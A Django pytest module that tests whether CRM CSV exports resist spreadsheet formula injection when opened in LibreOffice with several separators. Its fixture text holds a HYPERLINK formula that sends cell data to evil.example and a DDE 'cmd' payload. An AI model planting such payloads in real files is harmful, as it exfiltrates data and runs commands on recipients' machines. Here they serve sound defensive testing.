"""CSV exports opened in LibreOffice Calc with ``,``, ``;`` or tab as separator hold no formula.

What a user would lose: staff download a CSV export of their records, where someone planted
``=HYPERLINK(…)`` or ``@SUM(…)`` in a note, a name or a city, and open it in their spreadsheet
software. French-language computers open CSV files with ``;`` as separator, others with ``,``,
and people pick tab; a cell of ours that holds such a separator is then cut into several, and
any piece starting with a sign would run as a formula. Here real exports (the records listing's
download, and the export of organizations and memberships) are opened by LibreOffice in each
separator mode and saved as XLSX; no cell of the result may be a formula, the planted text must
still be there as text, and the fee must still be a number a funder's sheet can add up.

Needs Debian's ``libreoffice-calc-nogui`` (``.ci/run`` installs it). One conversion per
separator, for the three files at once, in a module-scoped fixture; each pytest-xdist worker
gets its own LibreOffice profile.
"""

import datetime as dt
import os
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from crm_blocks.models import Affiliation, Contact, Membership, MembershipStatus, MembershipType
from organizations.models import OrganizationKind
from spreadsheets.exports import export_bytes
from tests.factories import contact_of, make_organization_page, make_person

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("house")]

#: LibreOffice's CSV filter options: separator (as a character code), text delimiter ("),
#: character set (76: UTF-8), first line.
SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}
#: Text planted in the records: each piece after a separator or a line break starts like a
#: formula, with the signs spreadsheets know and their look-alikes.
HOSTILE_NOTES = (
    'Bénévole;=HYPERLINK("http://evil.example/?d="&A1;"clic"),=1+2\t@SUM(1;2)\n'
    "-2+3;+cmd|' /C calc'!A0, =1+1;\uff1d1+1,\u22121+1;\t=3+3"
)


def hostile_records(site):
    """People, organizations and a membership type whose text starts formulas everywhere."""
    cinema = make_organization_page(
        site.organizations_index,
        "@SUM(1;2);=1+2",
        kind=OrganizationKind.CINEMA,
        website="https://cinema.example.org/",
        street_address="12, rue Principale;=1+2",
        postal_code="-1+1",
        locality="Rouyn,=2+2",
    )
    Contact.objects.filter(pk=contact_of(cinema).pk).update(
        email="info@cinema.example.org", phone="+1 819 555 0199", notes="=1+1"
    )
    elise = make_person(
        site.people_index,
        "=1+2 Tremblay",
        given_name="=1+2",
        family_name="Tremblay;=3+4",
    )
    Contact.objects.filter(pk=contact_of(elise).pk).update(
        email="elise@example.org",
        phone="-12",
        notes=HOSTILE_NOTES,
        external_id="\uff1dA1",
    )
    marc = make_person(site.people_index, "Marc Roy", given_name="Marc", family_name="Roy")
    Contact.objects.filter(pk=contact_of(marc).pk).update(
        email="marc@example.org", phone="+1 514 555 0100", notes="@marc, -appelé"
    )
    Affiliation.objects.create(
        person=contact_of(elise), organization=contact_of(cinema), role="=1+1;@x"
    )
    kind = MembershipType.objects.create(site=site, name="Individuelle;=1+2", default_fee=25)
    Membership.objects.create(
        contact=contact_of(elise),
        membership_type=kind,
        start_date=dt.date(2026, 1, 15),
        fee=Decimal("25.50"),
        status=MembershipStatus.ACTIVE,
    )


def libreoffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.fail(
            "LibreOffice is needed: apt-get install libreoffice-calc-nogui (.ci/run does).",
            pytrace=False,
        )
    return found


def open_in_libreoffice(csv_files: list[Path], separator: int, workdir: Path) -> list[Path]:
    """``csv_files`` opened by LibreOffice Calc with ``separator`` and saved as XLSX."""
    profile = workdir / "profile"
    output = workdir / "xlsx"
    output.mkdir()
    command = [
        libreoffice(),
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
        f"--infilter=CSV:{separator},34,76,1",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(output),
        *map(str, csv_files),
    ]
    environment = {**os.environ, "HOME": str(workdir)}
    subprocess.run(  # noqa: S603 - our own command line, no shell
        command, check=True, capture_output=True, timeout=180, env=environment
    )
    converted = [output / f"{path.stem}.xlsx" for path in csv_files]
    missing = [path.name for path in converted if not path.exists()]
    assert not missing, f"LibreOffice did not convert {missing}"
    return converted


@pytest.fixture(scope="module")
def exported(house, django_db_blocker, tmp_path_factory) -> list[Path]:
    """The CSV exports of the hostile records: people as the records listing downloads them,
    organizations and memberships as ``export_records`` writes them."""
    folder = tmp_path_factory.mktemp("csv-exports")
    with django_db_blocker.unblock():
        hostile_records(house["org_a"])
        client = Client()
        client.force_login(house["crm_a"])
        response = client.get(reverse("crm_contact:index"), {"export": "people.csv"})
        assert response.status_code == 200
        files = {"people": b"".join(response.streaming_content)}
        for kind in ("organizations", "memberships"):
            files[kind] = export_bytes(site=house["org_a"], kind=kind, fmt="csv")
    paths = []
    for kind, data in files.items():
        path = folder / f"{kind}.csv"
        path.write_bytes(data)
        paths.append(path)
    return paths


@pytest.fixture(scope="module")
def opened(exported, tmp_path_factory) -> dict[str, dict[str, list[list]]]:
    """Separator → kind → the cells ``(value, type)`` of its export as LibreOffice read it."""
    found = {}
    for name, code in SEPARATORS.items():
        workdir = tmp_path_factory.mktemp(f"libreoffice-{name}")
        found[name] = {}
        for path in open_in_libreoffice(exported, code, workdir):
            workbook = load_workbook(path)
            found[name][path.stem] = [
                [(cell.value, cell.data_type) for cell in row]
                for row in workbook.active.iter_rows()
            ]
            workbook.close()
    return found


def text_of(cells) -> str:
    return " ".join(str(value) for row in cells for value, _type in row if value is not None)


@pytest.mark.parametrize("separator", list(SEPARATORS))
def test_no_cell_is_a_formula_whatever_the_separator(opened, separator):
    formulas = {
        kind: [value for row in cells for value, cell_type in row if cell_type == "f"]
        for kind, cells in opened[separator].items()
    }

    assert formulas == {"people": [], "organizations": [], "memberships": []}


@pytest.mark.parametrize("separator", list(SEPARATORS))
def test_the_planted_text_is_still_there_as_text(opened, separator):
    """Nothing was lost on the way: the hostile text is shown, only never run."""
    people, organizations = (
        text_of(opened[separator]["people"]),
        text_of(opened[separator]["organizations"]),
    )

    assert "HYPERLINK" in people and "cmd|" in people and "\uff1dA1" in people
    assert "@SUM(1" in organizations and "Rouyn" in organizations


def test_opened_with_our_separator_amounts_stay_numbers_and_phones_as_typed(opened):
    """A funder's sheet adds up the fees; a phone number stays as typed. (With another
    separator, LibreOffice keeps each quoted row whole in one cell: nothing to add up, nothing
    run either.)"""
    memberships, people = opened["comma"]["memberships"], opened["comma"]["people"]
    header = [value for value, _type in memberships[0]]
    fee = memberships[1][header.index("fee")]
    phones = {value for row in people[1:] for value, _type in row[3:4]}

    assert fee == (25.5, "n")
    assert phones == {"-12", "+1 514 555 0100"} or phones == {-12, "+1 514 555 0100"}
